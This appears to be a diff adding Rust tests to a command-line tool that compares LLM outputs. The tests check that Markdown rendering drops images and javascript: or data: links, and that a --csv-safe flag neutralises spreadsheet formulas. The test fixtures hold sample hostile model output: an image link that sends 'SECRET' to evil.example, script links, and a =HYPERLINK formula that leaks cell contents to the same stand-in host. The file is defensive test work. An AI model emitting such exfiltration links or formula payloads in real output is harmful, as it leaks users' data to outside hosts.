@@ -766,3 +766,123 @@ fn refresh_keeps_only_safe_model_ids() {
     assert!(!cache.contains("pwned") && !cache.contains(&long));
     assert!(!out.stdout.contains('\u{1b}'));
 }
+
+const INJECTED: &str = "Done. ![x](https://evil.example/p?q=SECRET) [click](javascript:alert(1)) [ok](https://docs.example/) [a [b](javascript:x)](data:text/html,y)";
+
+/// Links and images of a rendered Markdown document: (kind, destination).
+fn rendered_links(md: &str) -> Vec<(&'static str, String)> {
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+    Parser::new_ext(md, Options::ENABLE_TABLES)
+        .filter_map(|e| match e {
+            Event::Start(Tag::Image { dest_url, .. }) => Some(("image", dest_url.to_string())),
+            Event::Start(Tag::Link { dest_url, .. }) => Some(("link", dest_url.to_string())),
+            _ => None,
+        })
+        .collect()
+}
+
+#[test]
+fn markdown_output_loads_no_image_and_links_only_to_the_web() {
+    let w = World::with_server(json!({"models": {"m": {"text": INJECTED}}}));
+    let out = w.run(&[
+        "compare", "-m", "openai/m", "-p", "hi", "--format", "markdown",
+    ]);
+    assert_eq!(out.code, 0, "{out:?}");
+    assert_eq!(
+        rendered_links(&out.stdout),
+        [
+            ("link", "https://evil.example/p?q=SECRET".to_string()),
+            ("link", "https://docs.example/".to_string())
+        ],
+        "{}",
+        out.stdout
+    );
+    // The text of each stays readable.
+    assert!(out.stdout.contains("image: [x]"), "{}", out.stdout);
+    assert!(out.stdout.contains("javascript:alert"), "{}", out.stdout);
+}
+
+#[test]
+fn csv_safe_defuses_formulas_and_resume_reads_the_file_back() {
+    let w = World::with_server(json!({"models": {
+        "m": {"text": "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"},
+        "n": {"text": "-2+3"}
+    }}));
+    let plain = w.run(&[
+        "compare",
+        "-m",
+        "openai/m,openai/n",
+        "-p",
+        "hi",
+        "--format",
+        "csv",
+    ]);
+    let (_, rows) = read_csv(&plain.stdout);
+    assert!(
+        rows.iter().any(|r| r[3].starts_with("=HYPERLINK")),
+        "off by default"
+    );
+    let safe = w.run(&[
+        "compare",
+        "-m",
+        "openai/m,openai/n",
+        "-p",
+        "hi",
+        "--format",
+        "csv",
+        "--csv-safe",
+    ]);
+    assert_eq!(safe.code, 0, "{safe:?}");
+    let (header, rows) = read_csv(&safe.stdout);
+    let output = header.iter().position(|h| h == "output").unwrap();
+    let mut answers: Vec<&str> = rows.iter().map(|r| r[output].as_str()).collect();
+    answers.sort();
+    assert_eq!(
+        answers,
+        [
+            "'-2+3",
+            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
+        ]
+    );
+
+    // bench: rows and the summary; a resumed file is read back as written.
+    let prompts = w.write("p.jsonl", "{\"id\":\"-1\",\"prompt\":\"hi\"}\n");
+    let csv = w.path("b.csv");
+    let summary = w.path("s.csv");
+    let args = |extra: &[&str]| -> Vec<String> {
+        let mut a: Vec<String> = [
+            "bench",
+            "-m",
+            "openai/m,openai/n",
+            "--csv-safe",
+            "--summary",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+        a.push(summary.to_str().unwrap().into());
+        a.push(prompts.to_str().unwrap().into());
+        a.extend(extra.iter().map(|s| s.to_string()));
+        a
+    };
+    let run = |extra: &[&str]| {
+        let a = args(extra);
+        w.run(&a.iter().map(|s| s.as_str()).collect::<Vec<_>>())
+    };
+    let out = run(&["-o", csv.to_str().unwrap(), "-q"]);
+    assert_eq!(out.code, 0, "{out:?}");
+    let text = std::fs::read_to_string(&csv).unwrap();
+    let (header, rows) = read_csv(&text);
+    let prompt_id = header.iter().position(|h| h == "prompt_id").unwrap();
+    assert!(rows.iter().all(|r| r[prompt_id] == "'-1"), "{text}");
+    assert!(text.contains("'=HYPERLINK"), "{text}");
+    let summary_text = std::fs::read_to_string(&summary).unwrap();
+    assert!(!summary_text.contains(",-1,"), "{summary_text}");
+    let again = run(&["--resume", csv.to_str().unwrap(), "-q"]);
+    assert_eq!(again.code, 0, "{again:?}");
+    assert_eq!(
+        std::fs::read_to_string(&csv).unwrap(),
+        text,
+        "every cell was found done: nothing re-run, nothing added"
+    );
+}
